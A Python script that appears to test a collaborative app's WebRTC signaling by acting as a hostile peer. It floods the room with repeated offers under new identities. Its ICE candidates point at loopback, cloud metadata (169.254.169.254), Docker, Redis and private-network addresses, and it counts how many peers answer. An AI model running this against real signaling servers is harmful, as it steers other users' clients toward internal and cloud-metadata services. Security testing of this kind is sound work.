#!/usr/bin/env python3
"""A peer that speaks signaling, offers again and again, and names addresses that are none of its own. Run as a
program it does so for a while, and says in JSON what came back."""

import base64
import hashlib
import json
import os
import socket
import struct
import subprocess
import sys
import time
import uuid
from urllib.parse import urlsplit

# The room of `room.py`.
TOPIC = hashlib.sha256(b"celljam-trial-trial").hexdigest() + "demo.ipynb"
# Where something may listen that trusts its own machine, its cloud or its network.
MADE_UP = [
    "127.0.0.1 80", "127.0.0.53 53", "127.1.2.3 6379", "0.0.0.0 22", "169.254.169.254 80", "169.254.1.1 123",
    "192.168.1.1 80", "192.168.0.254 161", "172.17.0.1 2375", "::1 80", "fe80::1 80", "::ffff:127.0.0.1 80",
    "localhost 80", "metadata.google.internal 80",
]
SDP = """v=0
o=- {number} 2 IN IP4 127.0.0.1
s=-
t=0 0
a=group:BUNDLE 0
a=msid-semantic: WMS
m=application 9 UDP/DTLS/SCTP webrtc-datachannel
c=IN IP4 0.0.0.0
a=ice-ufrag:{ufrag}
a=ice-pwd:{password}
a=ice-options:trickle
a=fingerprint:sha-256 {print}
a=setup:actpass
a=mid:0
a=sctp-port:5000
a=max-message-size:262144
{candidates}"""


class Socket:
    """As much of a WebSocket client as this needs."""

    def __init__(self, url):
        where = urlsplit(url)
        self.stream = socket.create_connection((where.hostname, where.port), 10)
        key = base64.b64encode(os.urandom(16)).decode()
        lines = ["GET / HTTP/1.1", f"Host: {where.netloc}", "Upgrade: websocket", "Connection: Upgrade",
                 f"Sec-WebSocket-Key: {key}", "Sec-WebSocket-Version: 13", "", ""]
        self.stream.sendall("\r\n".join(lines).encode())
        self.buffer = b""
        while b"\r\n\r\n" not in self.buffer:
            self.buffer += self.stream.recv(4096)
        self.buffer = self.buffer.split(b"\r\n\r\n", 1)[1]

    def send(self, value):
        data, mask = json.dumps(value).encode(), os.urandom(4)
        length = len(data)
        head = bytes([0x81]) + (bytes([0x80 | length]) if length < 126 else bytes([0x80 | 126]) + struct.pack(">H", length))
        self.stream.sendall(head + mask + bytes(byte ^ mask[n % 4] for n, byte in enumerate(data)))

    def receive(self, within):
        """The next text, or none."""
        end = time.monotonic() + within
        while (frame := self._frame()) is None:
            left = end - time.monotonic()
            if left <= 0:
                return None
            self.stream.settimeout(left)
            try:
                chunk = self.stream.recv(65536)
            except TimeoutError:
                return None
            if not chunk:
                raise ConnectionError("signaling is gone")
            self.buffer += chunk
        return json.loads(frame) if frame[:1] == b"{" else {}

    def _frame(self):
        if len(self.buffer) < 2:
            return None
        length, at = self.buffer[1] & 127, 2
        if length == 126:
            length, at = struct.unpack(">H", self.buffer[2:4].ljust(2, b"\0"))[0], 4
        elif length == 127:
            length, at = struct.unpack(">Q", self.buffer[2:10].ljust(8, b"\0"))[0], 10
        if len(self.buffer) < at + length:
            return None
        frame, self.buffer = self.buffer[at:at + length], self.buffer[at + length:]
        return frame


def candidate(n, place):
    address, port = place.split()
    return f"candidate:{n} 1 udp {2122260223 - n} {address} {port} typ host generation 0 ufrag x network-cost 999"


def offer(in_sdp):
    lines = "".join(f"a={candidate(n, place)}\r\n" for n, place in enumerate(MADE_UP)) if in_sdp else ""
    text = SDP.format(number=int.from_bytes(os.urandom(7), "big"), ufrag=os.urandom(3).hex(), password=os.urandom(12).hex(),
                      print=":".join(f"{byte:02X}" for byte in os.urandom(32)), candidates="{candidates}")
    return text.replace("\n", "\r\n").replace("{candidates}", lines)


def attack(url, seconds):
    """Offers under new names to everybody who is heard; what was answered."""
    line = Socket(url)
    line.send({"type": "subscribe", "topics": [TOPIC]})
    said = {"offers": 0, "answers": 0, "candidates": 0}
    mine = set()

    def publish(data):
        line.send({"type": "publish", "topic": TOPIC, "data": data})

    def approach(peer):
        me = str(uuid.uuid4())
        mine.add(me)
        in_sdp = said["offers"] % 2 == 0
        publish({"type": "signal", "to": peer, "from": me, "signal": {"type": "offer", "sdp": offer(in_sdp)}})
        said["offers"] += 1
        for n, place in enumerate(MADE_UP):
            said["candidates"] += 1
            if not in_sdp:
                named = {"candidate": candidate(n, place), "sdpMLineIndex": 0, "sdpMid": "0"}
                publish({"type": "signal", "to": peer, "from": me, "signal": {"type": "candidate", "candidate": named}})

    end, victims, next_call = time.monotonic() + seconds, set(), 0.0
    while time.monotonic() < end:
        if time.monotonic() >= next_call:
            # A newcomer's call, which makes others offer to it: so their names are heard.
            caller = str(uuid.uuid4())
            mine.add(caller)
            publish({"type": "announce", "from": caller})
            for victim in victims:
                approach(victim)
            next_call = time.monotonic() + 3
        frame = line.receive(0.5)
        data = (frame or {}).get("data")
        if not isinstance(data, dict) or data.get("from") in mine or data.get("to", next(iter(mine))) not in mine:
            continue
        if data["from"] not in victims:
            victims.add(data["from"])
            approach(data["from"])
        if (data.get("signal") or {}).get("type") == "answer":
            said["answers"] += 1
    return said


def run(inside, url, seconds):
    """The attack from within a namespace."""
    done = subprocess.run([*inside, sys.executable, os.path.abspath(__file__), url, str(seconds)],
                          capture_output=True, text=True, timeout=seconds + 30)
    if done.returncode:
        raise RuntimeError(done.stderr)
    return json.loads(done.stdout)


if __name__ == "__main__":
    print(json.dumps(attack(sys.argv[1], float(sys.argv[2]))))
